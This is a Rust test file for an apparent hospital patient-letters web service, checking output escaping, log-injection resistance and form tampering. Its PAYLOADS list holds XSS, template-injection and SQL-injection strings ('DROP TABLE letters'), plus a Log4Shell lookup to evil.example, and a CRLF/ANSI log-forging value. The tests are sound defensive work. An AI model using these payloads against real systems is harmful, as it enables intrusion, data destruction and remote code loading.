//! Cases 76, 78 and 80: what others write is text, wherever it comes back; and a message that says more than it may is
//! refused, or says nothing.

use serde_json::{Value, json};

use crate::rig::browser::{Browser, letter_path};
use crate::rig::hospital::Hospital;
use crate::rig::node::Node;
use crate::rig::world::{Wanted, World};

/// Each breaks out of a different place: text, an attribute, a title, a comment, a template, a statement, a logger.
const PAYLOADS: [&str; 9] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg onload=alert(1)>",
    "</title></textarea><script>alert(2)</script>",
    "<!-- {{ 7 * 191 }} {% raw %}",
    "'; DROP TABLE letters; --",
    "\\'); DELETE FROM sessions; /*",
    "${jndi:ldap://evil.example/a}",
    "<a href=javascript:alert(3)>100% _ off</a>",
];

/// What a browser would show of our HTML.
fn read(page: &str) -> String {
    let signs = [
        ("&lt;", "<"),
        ("&gt;", ">"),
        ("&quot;", "\""),
        ("&#34;", "\""),
        ("&#x27;", "'"),
        ("&#39;", "'"),
        ("&#x2f;", "/"),
        ("&amp;", "&"),
    ];
    let start = page.to_owned();
    signs
        .iter()
        .fold(start, |text, (written, meant)| text.replace(written, meant))
}

/// Shown to the reader as it was written, and never to the browser.
fn assert_inert(page: &str, payload: &str, place: &str) {
    assert!(
        read(page).contains(payload),
        "{payload:?} is not at {place}"
    );
    if payload.contains(['<', '"', '\'']) {
        assert!(!page.contains(payload), "{payload:?} stands raw at {place}");
    }
}

/// As it stands in an address.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

async fn text(browser: &Browser, node: &Node, path: &str) -> String {
    let answer = browser.get(node, path).await.expect("an answer");
    assert_eq!(answer.status(), 200, "{path}");
    answer.text().await.expect("a page")
}

#[tokio::test]
async fn case_76_case_78_what_a_hospital_writes_is_text_on_every_page_in_the_api_and_in_the_database()
 {
    let world = World::shared(&Wanted::patients(1)).await;
    let node = world.running("alpha", &[]).await;
    let hospital = Hospital::meet(&node, &world.cast.api_key).await;
    let browser = Browser::of(world.patient(0));
    for (index, payload) in PAYLOADS.into_iter().enumerate() {
        let source = format!("payload-{index}");
        let mut form = hospital.letter(&source, world.patient(0));
        for field in ["title", "clinic", "specialty", "full_text"] {
            form[field] = json!(payload);
        }
        let answer = hospital.publish(&node, &form).await.expect("an answer");
        assert_eq!(answer.status, 201, "{payload:?}: {answer:?}");
        let at = letter_path(answer.letter_id());
        assert_inert(
            &text(&browser, &node, &at).await,
            payload,
            "the letter's page",
        );
        let list = "/my-health/documents";
        assert_inert(&text(&browser, &node, list).await, payload, "the list");
        let rows = text(&browser, &node, "/my-health/documents/rows.json").await;
        let rows: Value = serde_json::from_str(&rows).expect("the rows stay JSON");
        assert_eq!(rows["letters"][0]["title"], payload);
    }
    let sql = "SELECT count(*) FROM letters WHERE title = ANY($1)";
    let database = world.superuser().await;
    let row = database.query_one(sql, &[&PAYLOADS.as_slice()]).await;
    let kept: i64 = row.expect("the table is there").get(0);
    assert_eq!(kept, 9, "as they were sent, to the letter");
}

#[tokio::test]
async fn case_76_case_78_what_a_visitor_sends_comes_back_as_text_and_makes_no_line_in_the_log() {
    let world = World::shared(&Wanted::patients(1)).await;
    let node = world.running("alpha", &[]).await;
    let hospital = Hospital::meet(&node, &world.cast.api_key).await;
    let form = hospital.letter("searched", world.patient(0));
    let answer = hospital.publish(&node, &form).await.expect("an answer");
    let letter = answer.letter_id().to_string();
    let browser = Browser::of(world.patient(0));
    for payload in PAYLOADS {
        let search = format!("/my-health/documents?q={}", encoded(payload));
        let page = text(&browser, &node, &search).await;
        assert_inert(&page, payload, "the search");
        assert!(!page.contains(&letter), "{payload:?} finds nothing");
        let login = format!("/login?next={}", encoded(payload));
        let page = text(&Browser::stranger(), &node, &login).await;
        assert!(!page.contains(payload), "the sign-in page");
    }
    let forged = "\u{1b}[31m\n{\"level\":\"ERROR\",\"forged\":true}";
    let encoded = "%1b%5b31m%0d%0aforged-by-a-visitor";
    for path in [
        format!("/{encoded}"),
        format!("/my-health/documents?q={encoded}"),
    ] {
        browser.get(&node, &path).await.expect("an answer");
    }
    let mut form = hospital.letter("forged", world.patient(0));
    form["title"] = json!(forged);
    let answer = hospital.publish(&node, &form).await.expect("an answer");
    assert!((200..500).contains(&answer.status), "{answer:?}");
    let log = node.log();
    assert!(
        !log.contains('\u{1b}'),
        "no escape sequence reaches the log"
    );
    for line in log.lines() {
        assert!(
            !line.starts_with("forged") && !line.starts_with("{\"level\":\"ERROR\",\"forged\"")
        );
    }
    assert!(
        text(&browser, &node, "/my-health/documents")
            .await
            .contains(&letter)
    );
}

#[tokio::test]
async fn case_80_a_message_that_says_more_than_it_may_is_refused_and_a_form_cannot_name_somebody_else()
 {
    let world = World::shared(&Wanted::patients(2)).await;
    let node = world.running("alpha", &[]).await;
    let hospital = Hospital::meet(&node, &world.cast.api_key).await;
    let (patient, other) = (world.patient(0), world.patient(1));
    for field in [
        "state",
        "opened_at",
        "read_at",
        "patient_id",
        "trust",
        "role",
        "route",
        "letter_id",
    ] {
        let mut form = hospital.letter("more", patient);
        form[field] = json!("opened");
        let answer = hospital.publish(&node, &form).await.expect("an answer");
        assert_eq!(
            (answer.status, answer.code()),
            (422, "unknown_field"),
            "{field}"
        );
    }
    let kept = hospital.ask(&node, "more").await.expect("an answer");
    assert_eq!(kept.status, 404, "nothing came of them");
    let form = hospital.letter("more", patient);
    let answer = hospital.publish(&node, &form).await.expect("an answer");
    assert_eq!(
        answer.status, 201,
        "without them it is a letter: {answer:?}"
    );

    // The form of a page: whose session it is decides, whatever else it says.
    let browser = Browser::of(patient);
    let view = browser.view_form(&node, answer.letter_id()).await;
    let view = view.expect("the page").expect("a form");
    let mailbox = other.mailbox.to_string();
    let fields = [
        ("csrf", view.csrf.as_str()),
        ("nonce", &view.nonce),
        ("patient", &mailbox),
        ("account", &mailbox),
        ("role", "manager"),
        ("public_computer", "false"),
    ];
    let thief = Browser::of(other);
    let pressed = |browser: &Browser| {
        let request = browser.request("POST", &node, &view.action);
        request.header("Origin", node.url()).form(&fields)
    };
    let stolen = pressed(&thief).send().await.expect("an answer");
    assert!(matches!(stolen.status().as_u16(), 403 | 404));
    let own = pressed(&browser).send().await.expect("an answer");
    assert_eq!(own.headers()["content-type"], "application/pdf");
    let whole = own.bytes().await.expect("the file");
    assert!(whole.starts_with(b"%PDF-"));
    let page = text(&thief, &node, "/my-health/documents").await;
    assert!(!page.contains(&answer.letter_id().to_string()));
}
